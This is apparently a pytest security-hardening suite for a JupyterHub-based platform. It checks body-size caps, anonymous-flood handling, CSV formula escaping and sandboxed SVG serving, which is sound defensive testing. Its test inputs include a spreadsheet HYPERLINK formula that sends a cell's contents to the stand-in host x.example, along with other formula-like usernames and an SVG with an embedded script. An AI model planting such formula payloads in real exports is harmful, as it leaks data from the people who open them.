"""The platform's routes against hostile input, in a real JupyterHub started from
deploy/jupyterhub_config.py (local-process servers, no Docker needed):

- big bodies: a body over the cap is answered 413 as JSON before it is read (the hub answers
  the headers alone), one under the cap that the domain refuses gets a 400 whose message repeats
  only a little of it, and no line of the hub's log grows with what a caller sent (M4);
- anonymous floods: anonymous requests are refused without taking a turn of the loop, so they
  never queue ahead of signed-in users (L5; the hub's `Turns` is wrapped to count the turns),
  on the platform's routes and on JupyterHub's own, where a signed-in caller's change (not a
  read) takes one turn too;
- spreadsheet formulas: a user named like a formula shows up escaped in the history CSV an admin
  downloads (L4);
- scripted SVGs: a copied SVG logo is served with a sandboxing Content-Security-Policy and
  nosniff, so its script cannot run on the hub's origin (L6).
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import socket
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime, timedelta, timezone
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import requests

from stellars.adapters.sql import SqlActivityStore, SqlDatabase
from stellars.domain.activity import RecordedSample
from tests.backends.hub import JupyterHubProcess
from tests.backends.platform import (
    ADMIN_PASSWORD,
    DEPLOY_CONFIG,
    HubClient,
    platform_env,
    signed_up_user,
)

pytestmark = pytest.mark.real

#: What the wrapped `Turns` prints to the hub's log for every turn taken.
TURN_TAKEN = "stellars-test: a turn was taken"
COUNTING_CONFIG = f"""\
c = get_config()  # noqa: F821
load_subconfig({str(DEPLOY_CONFIG)!r})  # noqa: F821

from stellars.adapters.jupyterhub.web.turns import Turns


class CountingTurns(Turns):
    async def take(self, **kwargs):
        print({TURN_TAKEN!r}, flush=True)
        await super().take(**kwargs)


c.JupyterHub.tornado_settings["stellars"].turns = CountingTurns()
"""
SCRIPTED_LOGO = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
    b'<rect width="64" height="64" fill="#3366cc"/>'
    b"<script>document.title = 'svg script ran'</script></svg>"
)
FORMULA_NAME = '=hyperlink("https:"&char(47)&char(47)&"x.example?"&a3)'
MAX_LOG_LINE = 4096


@pytest.fixture(scope="module")
def tmp(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("hardening")


@pytest.fixture(scope="module")
def hub(jupyterhub_factory_module, tmp) -> JupyterHubProcess:
    brand = tmp / "brand"
    brand.mkdir()
    (brand / "logo.svg").write_bytes(SCRIPTED_LOGO)
    config = tmp / "config" / "jupyterhub_config.py"
    config.parent.mkdir()
    config.write_text(COUNTING_CONFIG)
    env = platform_env(
        tmp / "data",
        JUPYTERHUB_ADMIN_PASSWORD=ADMIN_PASSWORD,
        STELLARS_SPAWNER="local",
        JUPYTERHUB_LOGO_URI=f"file://{brand / 'logo.svg'}",
    )
    return jupyterhub_factory_module(config, env, workdir=tmp / "hub")


@pytest.fixture(scope="module")
def admin(hub) -> HubClient:
    client = HubClient(hub.public_url)
    client.login("admin", ADMIN_PASSWORD)
    return client


@pytest.fixture(scope="module")
def alice(hub, admin) -> HubClient:
    return signed_up_user(hub.public_url, admin, "alice", "alices-password-1")


@pytest.fixture(scope="module")
def alice_token(alice) -> str:
    return alice.new_token("alice")


def log_since(hub: JupyterHubProcess, offset: int) -> str:
    return hub.log_path.read_bytes()[offset:].decode("utf-8", "replace")


def log_size(hub: JupyterHubProcess) -> int:
    return hub.log_path.stat().st_size


# --- M4: big bodies ---------------------------------------------------------------------------


def labels_body(size: int) -> bytes:
    """`{"volumes": [...]}` of short made-up labels, `size` bytes long or a little less."""
    labels = [f"x{index:07d}" for index in range(size // 12 - 2)]
    body = json.dumps({"volumes": labels}).encode()
    assert len(body) <= size
    return body


def start_of_a_request(hub: JupyterHubProcess, head: str, body_start: bytes) -> bytes:
    """The hub's whole answer (read until it closes the connection) to a request of which
    only `head` and `body_start` are sent, straight to the hub's own port: through the proxy,
    a hub that closes a connection while the rest of a body is still on its way makes CHP
    answer 503 at times instead of passing the hub's answer on."""
    address = urlsplit(hub.env["JUPYTERHUB_HUB_BIND_URL"])
    with socket.create_connection((address.hostname, address.port), timeout=60) as sock:
        sock.sendall(head.encode() + body_start)
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    return answer


class TestBigBodies:
    def test_a_megabyte_of_labels_gets_a_json_413_before_it_is_read(self, hub, alice_token):
        """The head and 1 KiB of a 1 MiB label list are sent: a hub that waited for the whole
        body would never answer."""
        offset = log_size(hub)
        answer = start_of_a_request(
            hub,
            "DELETE /hub/api/users/alice/manage-volumes HTTP/1.1\r\n"
            "Host: hub\r\n"
            f"Authorization: token {alice_token}\r\n"
            "Content-Type: application/json\r\n"
            "Content-Length: 1048576\r\n"
            "\r\n",
            b'{"volumes": ["' + b"A" * 1024,
        )
        head, _, body = answer.partition(b"\r\n\r\n")
        assert head.startswith(b"HTTP/1.1 413 "), answer[:300]
        assert b"\r\nConnection: close" in head
        assert json.loads(body) == {
            "status": 413,
            "message": "The request body is larger than 64 KiB (65536 bytes), the most a "
            "platform route reads.",
        }
        assert "AAAA" not in log_since(hub, offset)

    def test_refusals_on_the_headers_reach_the_caller_through_the_proxy(self, alice):
        """A refusal given before the body is read (the XSRF check) waits for a body within
        the limit: a hub that closed the connection with the body unread would make CHP
        answer 503 at times."""
        answers = [
            alice.api(method, path, xsrf=False, json=body).status_code
            for _ in range(20)
            for method, path, body in (
                ("DELETE", "/users/alice/manage-volumes", {"volumes": ["cache"]}),
                ("POST", "/activity/sample", {"now": True}),
            )
        ]
        assert answers == [403] * 40

    def test_labels_just_under_the_cap_get_a_short_400(self, hub, alice):
        offset = log_size(hub)
        for body in (
            labels_body(60 * 1024),
            json.dumps({"volumes": ["B" * 60_000]}).encode(),
        ):
            answer = alice.api(
                "DELETE",
                "/users/alice/manage-volumes",
                data=body,
                headers={"Content-Type": "application/json"},
            )
            assert answer.status_code == 400, answer.text[:300]
            message = answer.json()["message"]
            assert message.startswith("volumes: unknown volume(s): ")
            assert len(message) < 500, message[:600]
        longest = max(len(line) for line in log_since(hub, offset).splitlines())
        assert longest < MAX_LOG_LINE

    def test_a_list_of_a_thousand_long_names_is_still_read(self, admin):
        """The routes that take a list of names read up to 256 KiB, so 1,000 of the longest
        names still fit (here 250 characters each, about 254 KB)."""
        names = [f"{index:04d}" + "n" * 246 for index in range(1000)]
        answer = admin.api("POST", "/admin/credentials", json={"usernames": names})
        assert answer.status_code == 200, answer.text[:300]
        assert answer.json() == {"credentials": []}  # no such users, so no passphrases

    def test_a_long_query_argument_is_not_repeated_in_full(self, admin):
        answer = admin.api("GET", "/activity", params={"offset": "9" * 5000 + "x"})
        assert answer.status_code == 400
        message = answer.json()["message"]
        assert message.startswith("offset: must be a whole number, got '999")
        assert len(message) < 500, message[:600]


# --- L5: anonymous floods ---------------------------------------------------------------------


def test_anonymous_requests_never_take_a_turn_before_signed_in_users(hub, admin):
    offset = log_size(hub)
    with ThreadPoolExecutor(max_workers=8) as pool:
        statuses = list(
            pool.map(
                lambda _: HubClient(hub.public_url).api("GET", "/activity").status_code,
                range(40),
            )
        )
    assert statuses == [403] * 40
    assert log_since(hub, offset).count(TURN_TAKEN) == 0
    assert admin.api("GET", "/activity").status_code == 200
    assert log_since(hub, offset).count(TURN_TAKEN) == 1


def anonymous_call(hub: JupyterHubProcess, method: str, path: str) -> int:
    return HubClient(hub.public_url).api(method, path).status_code


def test_jupyterhubs_own_routes_take_a_turn_for_signed_in_changes_only(hub, admin, alice):
    offset = log_size(hub)
    with ThreadPoolExecutor(max_workers=8) as pool:
        statuses = list(pool.map(lambda _: anonymous_call(hub, "POST", "/groups/x"), range(40)))
    assert statuses == [403] * 40
    assert HubClient(hub.public_url).page("/home").status_code == 302  # to the login page
    assert log_since(hub, offset).count(TURN_TAKEN) == 0
    assert admin.api("POST", "/groups/turn-takers").status_code == 201
    assert log_since(hub, offset).count(TURN_TAKEN) == 1
    # Reads take none: a user's model, a signed-in page by the hub cookie.
    assert admin.api("GET", "/users").status_code == 200
    assert alice.page("/home").status_code == 200
    assert log_since(hub, offset).count(TURN_TAKEN) == 1


# --- L4: spreadsheet formulas -----------------------------------------------------------------


def seed_activity(tmp: Path, username: str, now: datetime) -> None:

    async def seed() -> None:
        database = SqlDatabase.from_url(f"sqlite:///{tmp / 'data' / 'stellars.sqlite'}")
        try:
            store = SqlActivityStore(database, half_life=timedelta(hours=72))
            await store.add([RecordedSample(username, now - timedelta(minutes=10), True, now)])
        finally:
            database.close()

    asyncio.run(seed())


def test_a_user_named_like_a_formula_is_escaped_in_the_history_csv(admin, tmp):
    created = admin.api("POST", "/users", json={"usernames": [FORMULA_NAME, "-2+3", "@sum"]})
    assert created.status_code == 201, created.text
    names = [user["name"] for user in created.json()]
    assert names == [FORMULA_NAME, "-2+3", "@sum"]  # the hub keeps such names as they are
    now = datetime.now(timezone.utc).replace(microsecond=0)
    for name in names:
        seed_activity(tmp, name, now)
    # The samples' own day: ten minutes before now is yesterday just after midnight (UTC).
    day = (now - timedelta(minutes=10)).date().isoformat()
    answer = admin.api("GET", "/activity/history", params={"start": day, "end": day})
    assert answer.status_code == 200, answer.text
    assert answer.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(answer.text)))
    assert rows[0] == ["username", "day", "active_hours"]
    usernames = {row[0] for row in rows[1:]}
    assert {f"'{name}" for name in names} <= usernames
    assert not any(name[:1] in {"=", "+", "-", "@"} for name in usernames)
    for _, row_day, hours in rows[1:]:
        assert row_day == day
        assert float(hours) >= 0  # numbers stay numbers


# --- L6: scripted SVGs ------------------------------------------------------------------------


def test_a_copied_svg_is_served_sandboxed_and_never_sniffed(hub):
    login = requests.get(f"{hub.public_url}/hub/login", timeout=10).text
    assert 'src="/hub/stellars/branding/stellars-logo.svg"' in login
    answer = requests.get(f"{hub.public_url}/hub/stellars/branding/stellars-logo.svg", timeout=10)
    assert answer.status_code == 200
    assert answer.content == SCRIPTED_LOGO
    assert answer.headers["Content-Type"] == "image/svg+xml"
    assert answer.headers["Content-Security-Policy"] == "sandbox"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
